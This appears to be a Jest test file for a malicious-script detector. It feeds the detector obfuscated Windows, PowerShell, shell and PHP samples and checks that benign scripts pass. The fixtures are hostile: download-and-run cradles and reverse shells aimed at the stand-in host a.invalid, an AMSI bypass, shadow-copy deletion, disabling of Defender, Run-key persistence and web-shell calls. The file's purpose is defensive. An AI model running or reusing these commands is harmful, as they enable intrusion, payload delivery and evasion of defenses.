import { expect, test } from '@jest/globals';
import { utf16 } from '../file-of.ts';
import { look } from './ids-of.ts';

const encoded = Buffer.from('Write-Output doubletake; Start-Sleep 1', 'utf16le').toString('base64');
const fromCodes = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(',');

test.each<[id: string, name: string, content: string]>([
  [
    'scripts.download-and-run',
    'a.js',
    'var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://a.invalid/");s.Run("cmd /c x",0);',
  ],
  [
    'scripts.shell-run',
    'a.js',
    'var s = WScript.CreateObject("WScr"+"ipt.Sh"+\'ell\');\ns["Run"]("cmd /c echo 1", 0);',
  ],
  [
    'scripts.shell-run',
    'a.js',
    `var n = String.fromCharCode(${fromCodes('WScript.Shell')}); new ActiveXObject(n).Run("a.exe");`,
  ],
  [
    'scripts.shell-run',
    'a.js',
    'new ActiveXObject("\\x57\\x53\\x63\\x72\\x69\\x70\\x74.\\x53\\x68\\x65\\x6c\\x6c").Exec(p);',
  ],
  ['scripts.shell-run', 'a.js', 'new ActiveXObject("llehS.tpircSW".split("").reverse().join("")).Run(p);'],
  ['scripts.shell-run', 'a.js', 'new ActiveXObject("WSzzcript.Szzhell".replace(/zz/g, "")).Run(p);'],
  [
    'scripts.shell-run',
    'a.vbs',
    'Set s = CreateObject("WScript" & "." & "Shell")\r\ns.Run "powershell -c 1", 0\r\n',
  ],
  [
    'scripts.shell-run',
    'a.vbs',
    'Set s = CreateObject(Chr(87) & Chr(83) & Chr(&H63) & Chr(100+14) & "ipt.Shell")\r\ns.Run c\r\n',
  ],
  [
    'scripts.shell-run',
    'a.vbs',
    'CreateObject(StrReverse("noitacilppA.llehS")).ShellExecute "cmd.exe", "/c x"\r\n',
  ],
  [
    'scripts.shell-run',
    'a.wsf',
    '<job><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c x",0</script></job>',
  ],
  [
    'scripts.shell-run',
    'a.hta',
    '<html><HTA:APPLICATION/><script>new ActiveXObject("WScript.Shell").Run("cmd /c x")</script></html>',
  ],
  [
    'scripts.shell-run',
    'a.sct',
    '<scriptlet><registration/><script><![CDATA[new ActiveXObject("WScript.Shell").Run(c)]]></script></scriptlet>',
  ],
  [
    'scripts.shell-run',
    'a.html',
    '<html><script>new ActiveXObject("WScript.Shell").Run("cmd /c x")</script></html>',
  ],
  [
    'scripts.wmi-process',
    'a.vbs',
    'Set w = GetObject("winmgmts:root\\cimv2:Win32_Process")\r\nw.Create "cmd /c x", Null, Null, p\r\n',
  ],
  [
    'scripts.hidden-code',
    'a.vbs',
    `On Error Resume Next\r\nExecute(${[...'CreateObject("WScript")'].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')})\r\n`,
  ],
  [
    'scripts.download-and-write',
    'a.vbs',
    'Set x = CreateObject("Microsoft.XMLHTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a.exe"\r\n',
  ],
  ['scripts.encoded-script', 'a.jse', '#@~^CAAAAA==\\ko$K6,F&0wIAAA==^#~@'],
  [
    'scripts.persistence',
    'a.vbs',
    'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "b"',
  ],
  ['scripts.encoded-command', 'a.bat', `@echo off\r\npowershell -NoP -w hidden -enc ${encoded}\r\n`],
  ['scripts.encoded-command', 'a.bat', `@echo off\r\npow^ershell.exe -nop -e ${encoded}\r\n`],
  [
    'scripts.encoded-command',
    'a.bat',
    `@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% /EncodedCommand ${encoded}\r\n`,
  ],
  [
    'scripts.encoded-command',
    'a.cmd',
    `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ec "${encoded}"\r\n`,
  ],
  [
    'scripts.download-and-run',
    'a.bat',
    '@echo off\r\npowershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.invalid/\')"\r\n',
  ],
  [
    'scripts.lolbin-download',
    'a.bat',
    '@echo off\r\ncertutil -urlcache -split -f http://a.invalid/a.txt %TEMP%\\a.exe\r\n',
  ],
  [
    'scripts.lolbin-download',
    'a.bat',
    '@echo off\r\nbitsadmin /transfer j http://a.invalid/a %TEMP%\\a.exe\r\n',
  ],
  [
    'scripts.furtive-install',
    'a.bat',
    '@echo off\r\ncurl -s http://a.invalid/a.exe -o %TEMP%\\a.exe\r\nstart "" %TEMP%\\a.exe\r\n',
  ],
  ['scripts.lolbin-script', 'a.js', 'GetObject("script:http://a.invalid/a.sct"); var x = 1;'],
  [
    'scripts.download-and-run',
    'a.ps1',
    '$r = [Net.WebRequest]::Create("http://a.invalid/").GetResponse(); IEX $r\n',
  ],
  ['scripts.lolbin-decode', 'a.bat', '@echo off\r\ncertutil -decode a.txt a.exe\r\n'],
  ['scripts.lolbin-script', 'a.bat', '@echo off\r\nmshta http://a.invalid/a.hta\r\n'],
  [
    'scripts.lolbin-script',
    'a.bat',
    '@echo off\r\nregsvr32 /s /n /u /i:http://a.invalid/a.sct scrobj.dll\r\n',
  ],
  [
    'scripts.lolbin-script',
    'a.bat',
    '@echo off\r\nrundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x\r\n',
  ],
  [
    'scripts.split-words',
    'a.bat',
    `@echo off\r\n${Array.from({ length: 20 }, (_, i) => `%PUBLIC:~${i},1%`).join('')}\r\n`,
  ],
  ['scripts.shadow-copies', 'a.bat', '@echo off\r\nvssadmin.exe delete shadows /all /quiet\r\n'],
  ['scripts.defender-off', 'a.ps1', 'Set-MpPreference -DisableRealtimeMonitoring $true\n'],
  [
    'scripts.download-and-run',
    'a.ps1',
    "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/')\n",
  ],
  [
    'scripts.download-and-run',
    'a.ps1',
    "i`E`X (ne`w-obJect ('Net.We'+'bClient')).('Down'+'loadString')('http://a.invalid/')\n",
  ],
  [
    'scripts.download-and-run',
    'a.ps1',
    "&( $env:ComSpec[4,24,25] -join '') ((iwr 'http://a.invalid/').Content)\n",
  ],
  [
    'scripts.download-and-run',
    'a.ps1',
    '$c = ("{1}{0}" -f "String","Download"); $w = New-Object Net.WebClient; $w.$c("http://a.invalid/") | IEX\n',
  ],
  [
    'scripts.furtive-install',
    'a.ps1',
    'Invoke-WebRequest http://a.invalid/a -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n',
  ],
  [
    'scripts.decode-and-run',
    'a.ps1',
    "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('AAAA')))\n",
  ],
  [
    'scripts.amsi-bypass',
    'a.ps1',
    "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)\n",
  ],
  [
    'scripts.code-in-memory',
    'a.ps1',
    '$k::VirtualAlloc(0,$n,0x3000,0x40); [System.Runtime.InteropServices.Marshal]::Copy($b,0,$p,$n); $k::CreateThread(0,0,$p,0,0,0)\n',
  ],
  [
    'scripts.reverse-shell',
    'a.ps1',
    '$c = New-Object System.Net.Sockets.TCPClient("a.invalid",4444); $s = $c.GetStream(); iex $d\n',
  ],
  ['scripts.reverse-shell', 'a.sh', '#!/bin/bash\nbash -i >& /dev/tcp/a.invalid/4444 0>&1\n'],
  ['scripts.decode-and-run', 'a.sh', '#!/bin/sh\necho AAAA | base64 -d | sh\n'],
  ['scripts.decode-and-run', 'a.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'],
])('%s in %s: %s', async (id, name, content) => {
  const found = await look(name, content);
  expect(found.ids).toContain(id);
  expect(found.score).toBeGreaterThanOrEqual(300);
  expect((await look(name, utf16(content))).ids).toEqual(found.ids);
});

test.each<[name: string, content: string]>([
  [
    'a.js',
    'const fs = require("fs");\nrequire("child_process").exec("ls", (error, out) => console.log(out));\n',
  ],
  [
    'jquery.js',
    'function xhr() { return new window.ActiveXObject("Microsoft.XMLHTTP"); }\nfunction run(s) { (window.execScript || function (d) { window["eval"].call(window, d); })(s); }\n',
  ],
  ['a.js', 'var app = { run: function () { return eval("1"); } }; app.run(); document.title = "x";'],
  ['a.vbs', 'Set s = CreateObject("WScript.Shell")\r\ns.Run "notepad.exe"\r\n'],
  [
    'a.vbs',
    'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "Z:", "\\\\files\\team"\r\nMsgBox "Done"\r\n',
  ],
  [
    'a.bat',
    '@echo off\r\nsetlocal\r\nset JAVA_HOME=%~dp0jre\r\n"%JAVA_HOME%\\bin\\java" -jar "%~dp0app.jar" %*\r\nif errorlevel 1 pause\r\n',
  ],
  ['a.bat', '@echo off\r\npowershell -ExecutionPolicy Bypass -File "%~dp0build.ps1" %*\r\n'],
  [
    'a.bat',
    '@echo off\r\nreg add HKCU\\Software\\Example /v a /d 1 /f\r\nnet stop Spooler\r\ncopy a.txt b.txt\r\n',
  ],
  ['a.bat', '@echo off\r\ncurl -L https://a.invalid/setup.exe -o setup.exe\r\nsetup.exe /S\r\n'],
  [
    'a.ps1',
    'param([string]$Path)\nGet-ChildItem $Path -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length\n',
  ],
  [
    'a.ps1',
    'Invoke-WebRequest https://a.invalid/a.zip -OutFile a.zip\nExpand-Archive a.zip\nStart-Process .\\setup.exe\n',
  ],
  ['a.ps1', '$b = [Convert]::FromBase64String($env:CERT)\n[IO.File]::WriteAllBytes("cert.pfx", $b)\n'],
  ['a.ps1', '$users = Invoke-RestMethod "https://a.invalid/users"\n$users | Export-Csv users.csv\n'],
  ['a.sh', '#!/bin/sh\nset -e\napt-get update\ncurl -fsSL https://a.invalid/install.sh | sh\n'],
  [
    'a.py',
    'import socket, subprocess\ns = socket.create_connection(("a.invalid", 80))\nprint(subprocess.run(["ls"]))\n',
  ],
  [
    'a.hta',
    '<html><head><HTA:APPLICATION id="a"/></head><body><script>document.title = "Tool";</script></body></html>',
  ],
  ['notes.txt', 'Never run powershell -enc, certutil -urlcache or vssadmin delete shadows.\n'],
])('clean: %s: %s', async (name, content) => {
  expect((await look(name, content)).score).toBeLessThan(300);
});

test('what stands in the file has its place, also behind a mark and in UTF-16', async () => {
  const content = 'var a = 1;\nvar s=new ActiveXObject("WScript.Shell"); s.Run("x");';
  const at = content.indexOf('.Run');
  expect((await look('a.js', content)).findings[0]?.offset).toBe(at);
  expect((await look('a.js', `\ufeff${content}`)).findings[0]?.offset).toBe(3 + at);
  expect((await look('a.js', utf16(content))).findings[0]?.offset).toBe(2 + 2 * at);
});

test('text that is made to be slow is read in time', async () => {
  const hostile = [
    `powershell ${'iwr '.repeat(200_000)}`,
    `${'"'.repeat(400_000)}`,
    `"${' '.repeat(400_000)}`.repeat(2),
    `${'Replace("'.repeat(100_000)}`,
    `${'%a%'.repeat(200_000)}\nset a=%a%%a%%a%`,
    '\n'.repeat(1_000_000),
    '\t'.repeat(1_000_000),
    `${'ADODB.Stream '.repeat(60_000)}`,
    `<${' '.repeat(400_000)}=`,
    `${'<a b="'.repeat(100_000)}`,
    `${'winmgmts Win32_Process '.repeat(40_000)}`,
  ];
  for (const name of ['a', 'a.bat', 'a.js', 'a.html', 'a.svg', 'a.ps1', 'a.csv'])
    for (const content of hostile) await look(name, content);
});

test('a script that is padded is still read at both ends', async () => {
  const padding = `// ${'x'.repeat(60)}\n`.repeat(50_000);
  const hidden = 'new ActiveXObject("WScr"+"ipt.Sh"+"ell").Run(p);';
  for (const content of [hidden + padding, padding + hidden])
    expect((await look('a.js', content)).ids).toContain('scripts.shell-run');
});

test.each([
  ['<?php $f="ass"."ert"; $f($_REQUEST[1]); ?>'],
  ["<?php $f = 'system'; @$f($_GET['c']);"],
  ["<?php $f = str_rot13('flfgrz'); $f(trim($_POST['c']));"],
  ["<?php ('sys'.'tem')($_COOKIE['c']);"],
  ["<?php array_map('ass'.'ert', [$_POST['a']]);"],
])('a call by a hidden name: %s', async (content) => {
  expect((await look('a.php', content)).ids).toContain('scripts.hidden-call');
});

test.each([
  ["<?php $render = function ($a) { return $a; }; echo $render($_GET['a']);"],
  ["<?php $filter = 'trim'; echo $filter($_POST['name']);"],
  ["<?php $title = 'a' . 'b'; echo htmlspecialchars($_GET['a']); array_map('trim', $_POST);"],
])('no call by a hidden name: %s', async (content) => {
  expect((await look('a.php', content)).ids).toEqual([]);
});
